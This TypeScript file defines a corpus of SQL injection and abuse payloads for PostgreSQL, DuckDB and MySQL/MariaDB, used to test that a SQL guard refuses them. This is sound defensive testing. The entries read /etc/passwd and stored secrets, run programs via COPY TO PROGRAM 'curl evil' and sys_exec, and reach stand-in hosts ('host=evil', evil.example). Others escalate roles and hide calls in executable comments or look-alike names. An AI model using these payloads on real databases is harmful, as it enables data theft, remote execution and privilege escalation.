import type { SqlGuardEngine } from '../sql-guard.types';

/**
 * SQL that must never run from the SQL editor, a virtual dataset or a chart. Exported so that
 * integration tests can replay it over HTTP against each engine's database.
 */
export interface AttackPayload {
  sql: string;
  /** The engines the payload targets; the guard must refuse it on each. */
  engines: readonly SqlGuardEngine[];
  /**
   * True when the payload touches the host, the server or runs SQL from a string: refused even on a
   * database that allows DML. False for plain data changes (refused only without `allow_dml`).
   */
  hostTouching: boolean;
  /** What the payload tries. */
  why: string;
}

const PG: readonly SqlGuardEngine[] = ['postgresql'];
const DUCK: readonly SqlGuardEngine[] = ['duckdb'];
const MY: readonly SqlGuardEngine[] = ['mysql', 'mariadb'];
const PG_DUCK: readonly SqlGuardEngine[] = ['postgresql', 'duckdb'];
const ALL: readonly SqlGuardEngine[] = ['postgresql', 'duckdb', 'mysql', 'mariadb'];

const host = (sql: string, engines: readonly SqlGuardEngine[], why: string): AttackPayload => ({ sql, engines, hostTouching: true, why });
const dml = (sql: string, engines: readonly SqlGuardEngine[], why: string): AttackPayload => ({ sql, engines, hostTouching: false, why });

const POSTGRESQL_FUNCTIONS: AttackPayload[] = [
  host("SELECT pg_read_file('/etc/hostname')", PG, 'read a server file'),
  host("SELECT pg_read_binary_file('/etc/passwd')", PG, 'read a server file as bytes'),
  host("SELECT * FROM pg_ls_dir('/')", PG, 'list a server directory'),
  host('SELECT * FROM pg_ls_logdir()', PG, 'list the log directory'),
  host('SELECT * FROM pg_ls_waldir()', PG, 'list the WAL directory'),
  host("SELECT * FROM pg_stat_file('/etc/passwd')", PG, 'stat a server file'),
  host("SELECT lo_import('/etc/passwd')", PG, 'import a server file as a large object'),
  host("SELECT lo_export(1234, '/tmp/out')", PG, 'write a server file from a large object'),
  host('SELECT lo_get(1234)', PG, 'read a large object'),
  host("SELECT lo_from_bytea(0, 'x')", PG, 'create a large object'),
  host("SELECT query_to_xml('select * from secret', true, false, '')", PG, 'run SQL from a string past table grants'),
  host("SELECT query_to_xml_and_xmlschema('select 1', true, false, '')", PG, 'run SQL from a string'),
  host("SELECT query_to_xmlschema('select 1', true, false, '')", PG, 'run SQL from a string'),
  host("SELECT cursor_to_xml('c', 1, true, false, '')", PG, 'read a cursor'),
  host("SELECT table_to_xml('secret', true, false, '')", PG, 'read a table past grants'),
  host("SELECT schema_to_xml('public', true, false, '')", PG, 'read a whole schema'),
  host("SELECT database_to_xml(true, false, '')", PG, 'read the whole database'),
  host("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", PG, 'reach another server'),
  host("SELECT dblink_exec('host=evil', 'drop table x')", PG, 'run SQL on another server'),
  host("SELECT set_config('role', 'postgres', false)", PG, 'change a setting'),
  host('SELECT pg_reload_conf()', PG, 'reload the server configuration'),
  host('SELECT pg_rotate_logfile()', PG, 'rotate the server log'),
  host('SELECT pg_terminate_backend(1)', PG, 'kill another session'),
  host('SELECT pg_cancel_backend(1)', PG, 'cancel another session'),
  host('SELECT pg_advisory_lock(1)', PG, 'hold a lock forever'),
  host('SELECT pg_sleep(100)', PG, 'sleep'),
  host("SELECT pg_sleep_for('1 hour')", PG, 'sleep'),
  host("SELECT pg_logical_emit_message(true, 'x', 'y')", PG, 'write to the WAL'),
  host("SELECT xpath_table('id', 'x', 't', '/a', 'true')", PG, 'run SQL from a string (xml2)'),
  host("SELECT \"pg_read_file\"('/etc/hostname')", PG, 'quoted name'),
  host("SELECT PG_READ_FILE('/etc/hostname')", PG, 'upper-case name'),
  host("SELECT \"PG_READ_FILE\"('/etc/hostname')", PG, 'quoted upper-case name'),
  host("SELECT pg_catalog.pg_read_file('/etc/hostname')", PG, 'schema-qualified name'),
  host("SELECT \"pg_catalog\".\"pg_read_file\"('/etc/hostname')", PG, 'quoted schema-qualified name'),
  host("SELECT pg_catalog.query_to_xml('select 1', true, false, '')", PG, 'schema-qualified SQL from a string'),
  host("SELECT length(upper(pg_read_file('/etc/hostname')))", PG, 'nested in arguments'),
  host("SELECT * FROM t WHERE id IN (SELECT length(pg_read_file('/etc/hostname')))", PG, 'inside a sub-query'),
  host("SELECT * FROM t ORDER BY pg_read_file('/etc/hostname')", PG, 'in ORDER BY'),
  host("SELECT * FROM t, LATERAL (SELECT pg_read_file('/etc/hostname')) AS f", PG, 'in LATERAL'),
  host("VALUES (pg_read_file('/etc/hostname'))", PG, 'in VALUES'),
  host("SELECT 1 UNION SELECT length(pg_read_file('/etc/hostname'))", PG, 'in a set operation'),
  host("WITH x AS (SELECT pg_read_file('/etc/hostname') AS v) SELECT * FROM x", PG, 'in a CTE body'),
  host("SELECT CASE WHEN true THEN pg_read_file('/etc/hostname') END", PG, 'in CASE'),
  host("SELECT count(*) FILTER (WHERE pg_read_file('/x') IS NULL) FROM t", PG, 'in an aggregate FILTER'),
  host("SELECT 1; SELECT pg_read_file('/etc/hostname')", PG, 'second statement'),
  host("SELECT 1 /* harmless */ ; SELECT pg_ls_dir('/')", PG, 'after a comment'),
  host("SELECT 1 -- comment\n, pg_read_file('/etc/hostname')", PG, 'after a line comment'),
  host("SELECT $$x$$, pg_read_file('/etc/hostname')", PG, 'after a dollar-quoted string'),
];

const POSTGRESQL_STATEMENTS: AttackPayload[] = [
  host("COPY t TO '/tmp/out.csv'", PG, 'write a server file'),
  host("COPY t FROM '/etc/passwd'", PG, 'read a server file'),
  host("COPY t TO PROGRAM 'curl evil'", PG, 'run a program'),
  host("COPY (SELECT 1) TO PROGRAM 'id'", PG, 'run a program'),
  host("SELECT 1; COPY t FROM PROGRAM 'id'", PG, 'stacked COPY'),
  host("DO $$ BEGIN PERFORM pg_sleep(1); END $$", PG, 'anonymous code block'),
  host('CALL p()', PG, 'call a procedure'),
  host("SET search_path = secret", PG, 'change a setting'),
  host('SET ROLE postgres', PG, 'change role'),
  host('SET SESSION AUTHORIZATION postgres', PG, 'change user'),
  host('RESET ROLE', PG, 'reset role'),
  host("LOAD 'auto_explain'", PG, 'load a library'),
  host("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", PG, 'define code'),
  host("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", PG, 'define code'),
  host('CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$', PG, 'define a procedure'),
  host('CREATE EXTENSION dblink', PG, 'install an extension'),
  host('CREATE LANGUAGE plperlu', PG, 'install a language'),
  host("CREATE ROLE evil SUPERUSER", PG, 'create a role'),
  host("CREATE USER evil PASSWORD 'x'", PG, 'create a user'),
  host("ALTER ROLE analyst SUPERUSER", PG, 'grant superuser'),
  host("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", PG, 'define a foreign server'),
  host('DROP FUNCTION f()', PG, 'drop code'),
  host('GRANT ALL ON t TO public', PG, 'grant'),
  host('REVOKE ALL ON t FROM public', PG, 'revoke'),
  host("ALTER SYSTEM SET log_statement = 'none'", PG, 'change the server configuration'),
  host('LISTEN ch', PG, 'listen'),
  host("NOTIFY ch, 'x'", PG, 'notify'),
  host("PREPARE s AS SELECT pg_read_file('/x')", PG, 'prepare'),
  host('EXECUTE s', PG, 'execute a prepared statement'),
  host('DEALLOCATE s', PG, 'deallocate'),
  host('DECLARE c CURSOR FOR SELECT 1', PG, 'declare a cursor'),
  host('VACUUM t', PG, 'vacuum'),
  host('CHECKPOINT', PG, 'checkpoint'),
  host("EXPLAIN ANALYZE SELECT pg_sleep(10)", PG, 'EXPLAIN ANALYZE runs the query'),
  dml('SELECT * INTO new_table FROM t', PG, 'SELECT INTO creates a table'),
  dml('WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x', PG, 'data-modifying CTE'),
  dml('WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x', PG, 'data-modifying CTE'),
  dml('WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT 1', PG, 'data-modifying CTE'),
  dml('SELECT 1; DELETE FROM t', PG, 'stacked DELETE'),
  dml('EXPLAIN ANALYZE DELETE FROM t', PG, 'EXPLAIN ANALYZE runs the DELETE'),
];

const DUCKDB_FUNCTIONS: AttackPayload[] = [
  host("SELECT content FROM read_text('data/secret.key')", DUCK, 'read the signing key'),
  host("SELECT * FROM read_blob('/etc/passwd')", DUCK, 'read a file as bytes'),
  host("SELECT * FROM read_csv('/etc/passwd')", DUCK, 'read a CSV file'),
  host("SELECT * FROM read_csv_auto('/etc/passwd')", DUCK, 'read a CSV file'),
  host("SELECT * FROM read_parquet('s3://bucket/x.parquet')", DUCK, 'read a remote file'),
  host("SELECT * FROM read_json('/x.json')", DUCK, 'read JSON'),
  host("SELECT * FROM read_json_auto('/x.json')", DUCK, 'read JSON'),
  host("SELECT * FROM read_ndjson_objects('/x.json')", DUCK, 'read JSON'),
  host("SELECT * FROM parquet_scan('/x.parquet')", DUCK, 'scan a file'),
  host("SELECT * FROM csv_scan('/x.csv')", DUCK, 'scan a file'),
  host("SELECT * FROM sqlite_scan('/x.db', 't')", DUCK, 'scan a SQLite file'),
  host("SELECT * FROM postgres_scan('host=evil', 'public', 't')", DUCK, 'reach another server'),
  host("SELECT * FROM iceberg_scan('/x')", DUCK, 'scan files'),
  host("SELECT * FROM delta_scan('/x')", DUCK, 'scan files'),
  host("SELECT * FROM glob('/*')", DUCK, 'list files'),
  host("SELECT * FROM sniff_csv('/etc/passwd')", DUCK, 'sniff a file'),
  host("SELECT * FROM parquet_metadata('/x.parquet')", DUCK, 'file metadata'),
  host("SELECT * FROM parquet_schema('/x.parquet')", DUCK, 'file schema'),
  host("SELECT getenv('HOME')", DUCK, 'read the environment'),
  host("SELECT * FROM query('SELECT * FROM secret')", DUCK, 'run SQL from a string'),
  host("SELECT * FROM query_table('secret')", DUCK, 'read a table named in a string'),
  host('SELECT * FROM duckdb_secrets()', DUCK, 'list secrets'),
  host("SELECT * FROM which_secret('s3://x', 's3')", DUCK, 'find secrets'),
  host("SELECT current_setting('s3_secret_access_key')", DUCK, 'read a credential setting'),
  host("SELECT Read_Text('/etc/passwd')", DUCK, 'case-varied name'),
  host("SELECT \"read_text\"('/etc/passwd')", DUCK, 'quoted name'),
  host("SELECT main.read_text('/etc/passwd')", DUCK, 'schema-qualified name'),
  host("FROM read_text('/etc/passwd')", DUCK, 'FROM-first'),
  host("SELECT * FROM 'data/secret.csv'", DUCK, 'a file path as a table (replacement scan)'),
  host('SELECT * FROM "/etc/passwd"', DUCK, 'a quoted file path as a table'),
  host("SELECT * FROM 'https://evil.example/x.parquet'", DUCK, 'a URL as a table'),
  host("FROM 'data/*.parquet'", DUCK, 'a glob as a table'),
  host("SELECT * FROM t WHERE x IN (SELECT content FROM read_text('/etc/passwd'))", DUCK, 'inside a sub-query'),
  host("SELECT * FROM t ORDER BY (SELECT content FROM read_text('/x'))", DUCK, 'in ORDER BY'),
  host("SELECT * FROM t, LATERAL (SELECT * FROM read_text('/x'))", DUCK, 'in LATERAL'),
  host("WITH x AS (SELECT * FROM read_text('/x')) SELECT * FROM x", DUCK, 'in a CTE body'),
  host("SELECT 1 UNION ALL SELECT length(content) FROM read_text('/x')", DUCK, 'in a set operation'),
  host("SELECT list_transform(['/x'], p -> read_text(p))", DUCK, 'inside a lambda'),
  host("DESCRIBE SELECT * FROM read_text('/x')", DUCK, 'inside DESCRIBE'),
  host("EXPLAIN SELECT * FROM read_text('/x')", DUCK, 'inside EXPLAIN'),
  host("SELECT 1; SELECT * FROM read_text('/x')", DUCK, 'second statement'),
  host("CREATE TABLE x AS SELECT * FROM read_text('/x')", DUCK, 'inside CREATE TABLE AS'),
  host("INSERT INTO t SELECT * FROM read_csv('/x.csv')", DUCK, 'inside INSERT'),
];

const DUCKDB_STATEMENTS: AttackPayload[] = [
  host("COPY t TO '/tmp/out.csv'", DUCK, 'write a file'),
  host("COPY t FROM '/etc/passwd'", DUCK, 'read a file'),
  host("COPY (SELECT 1) TO 'out.parquet' (FORMAT parquet)", DUCK, 'write a file'),
  host("ATTACH '/tmp/other.db' AS other", DUCK, 'attach a database file'),
  host("ATTACH 'host=evil' AS pg (TYPE postgres)", DUCK, 'attach another server'),
  host('DETACH other', DUCK, 'detach a database'),
  host('INSTALL httpfs', DUCK, 'install an extension'),
  host('FORCE INSTALL httpfs', DUCK, 'install an extension'),
  host('LOAD httpfs', DUCK, 'load an extension'),
  host("SET enable_external_access = true", DUCK, 'change a setting'),
  host('RESET threads', DUCK, 'reset a setting'),
  host("PRAGMA enable_profiling", DUCK, 'pragma'),
  host('PRAGMA database_list', DUCK, 'pragma'),
  host("EXPORT DATABASE '/tmp/dump'", DUCK, 'write files'),
  host("IMPORT DATABASE '/tmp/dump'", DUCK, 'read files'),
  host('CALL pragma_version()', DUCK, 'call'),
  host("CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", DUCK, 'create a secret'),
  host('CREATE MACRO m(x) AS x + 1', DUCK, 'define code'),
  host('CREATE FUNCTION f(x) AS x + 1', DUCK, 'define code'),
  host('USE other', DUCK, 'switch database'),
  host('CHECKPOINT', DUCK, 'checkpoint'),
  host('VACUUM', DUCK, 'vacuum'),
  host("SELECT 1; ATTACH '/tmp/x.db'", DUCK, 'stacked ATTACH'),
  dml('SELECT 1; DELETE FROM t', DUCK, 'stacked DELETE'),
  dml('CREATE TABLE x AS SELECT 1', DUCK, 'create a table'),
];

const MYSQL_FUNCTIONS: AttackPayload[] = [
  host("SELECT LOAD_FILE('/etc/passwd')", MY, 'read a server file'),
  host("SELECT load_file('/etc/passwd')", MY, 'read a server file'),
  host("SELECT `load_file`('/etc/passwd')", MY, 'quoted name'),
  host('SELECT SLEEP(10)', MY, 'sleep'),
  host("SELECT BENCHMARK(100000000, MD5('x'))", MY, 'burn CPU'),
  host("SELECT GET_LOCK('x', 10)", MY, 'hold a lock'),
  host("SELECT RELEASE_LOCK('x')", MY, 'release a lock'),
  host('SELECT RELEASE_ALL_LOCKS()', MY, 'release locks'),
  host("SELECT MASTER_POS_WAIT('log', 4)", MY, 'wait on replication'),
  host("SELECT SOURCE_POS_WAIT('log', 4)", MY, 'wait on replication'),
  host("SELECT sys_exec('id')", MY, 'run a program'),
  host("SELECT sys_eval('id')", MY, 'run a program'),
  host("SELECT * FROM t WHERE a IN (SELECT LENGTH(LOAD_FILE('/x')))", MY, 'inside a sub-query'),
  host("SELECT * FROM t ORDER BY LOAD_FILE('/x')", MY, 'in ORDER BY'),
  host("SELECT 1 UNION SELECT LOAD_FILE('/x')", MY, 'in a set operation'),
  host("WITH x AS (SELECT LOAD_FILE('/x') AS v) SELECT * FROM x", MY, 'in a CTE body'),
  host("SELECT CONCAT('a', UPPER(LOAD_FILE('/x')))", MY, 'nested in arguments'),
  host("SELECT 1; SELECT LOAD_FILE('/x')", MY, 'second statement'),
  host("SELECT 1 # comment\n, LOAD_FILE('/x')", MY, 'after a # comment'),
  host("SELECT 1 /*!50000 , LOAD_FILE('/x') */", MY, 'executable comment'),
  host("SELECT /*!50000 LOAD_FILE*/('/x')", MY, 'executable comment hiding the name'),
  host("SELECT 1 /*M! , LOAD_FILE('/x') */", MY, 'MariaDB executable comment'),
];

const MYSQL_STATEMENTS: AttackPayload[] = [
  host("SELECT * FROM t INTO OUTFILE '/tmp/out'", MY, 'write a server file'),
  host("SELECT 'x' INTO DUMPFILE '/tmp/out'", MY, 'write a server file'),
  host('SELECT 1 INTO @v', MY, 'set a variable'),
  host("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", MY, 'read a server file'),
  host("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", MY, 'read a client file'),
  host("LOAD XML INFILE '/x.xml' INTO TABLE t", MY, 'read a server file'),
  host('SET @a = 1', MY, 'set a variable'),
  host('SET GLOBAL general_log = 1', MY, 'change the server'),
  host('HANDLER t OPEN', MY, 'handler'),
  host("INSTALL PLUGIN p SONAME 'x.so'", MY, 'install a plugin'),
  host("PREPARE s FROM 'SELECT LOAD_FILE(\"/x\")'", MY, 'run SQL from a string'),
  host('EXECUTE s', MY, 'execute'),
  host('DO SLEEP(10)', MY, 'DO'),
  host('CALL p()', MY, 'call'),
  host('GRANT ALL ON *.* TO analyst', MY, 'grant'),
  host('REVOKE ALL ON *.* FROM analyst', MY, 'revoke'),
  host("CREATE USER evil IDENTIFIED BY 'x'", MY, 'create a user'),
  host('FLUSH PRIVILEGES', MY, 'flush'),
  host('KILL 1', MY, 'kill'),
  host('SHUTDOWN', MY, 'shutdown'),
  host("SELECT 1; LOAD DATA INFILE '/x' INTO TABLE t", MY, 'stacked LOAD DATA'),
  dml('SELECT 1; DELETE FROM t', MY, 'stacked DELETE'),
  dml('INSERT INTO t VALUES (1)', MY, 'insert'),
];

const EVERY_ENGINE: AttackPayload[] = [
  dml('DELETE FROM t', ALL, 'delete'),
  dml('UPDATE t SET a = 1', ALL, 'update'),
  dml('DROP TABLE t', ALL, 'drop'),
  dml('CREATE TABLE x (a int)', ALL, 'create'),
  dml('TRUNCATE t', PG_DUCK, 'truncate'),
  dml('SELECT 1; INSERT INTO t VALUES (1)', ALL, 'stacked INSERT'),
  host("SELECT 1 /* ; */ ; COPY t TO '/tmp/x'", PG_DUCK, 'a semicolon inside a comment'),
  host("SELECT ';' ; COPY t TO '/tmp/x'", PG_DUCK, 'a semicolon inside a string'),
  // Look-alikes: Cyrillic "р" and "е" make a different name. Refused because it does not parse as a
  // call on some engines, or because the look-alike is not the real function elsewhere (see the spec).
  host("SELECT pg_rеad_file('/etc/hostname'); COPY t TO '/tmp/x'", PG, 'Cyrillic look-alike, then COPY'),
  host('SELECT 1;;; GRANT ALL ON t TO public', PG, 'empty statements around a GRANT'),
];

/** Every payload, at least 120, each naming the engines it targets. */
export const ATTACK_CORPUS: readonly AttackPayload[] = [
  ...POSTGRESQL_FUNCTIONS,
  ...POSTGRESQL_STATEMENTS,
  ...DUCKDB_FUNCTIONS,
  ...DUCKDB_STATEMENTS,
  ...MYSQL_FUNCTIONS,
  ...MYSQL_STATEMENTS,
  ...EVERY_ENGINE,
];
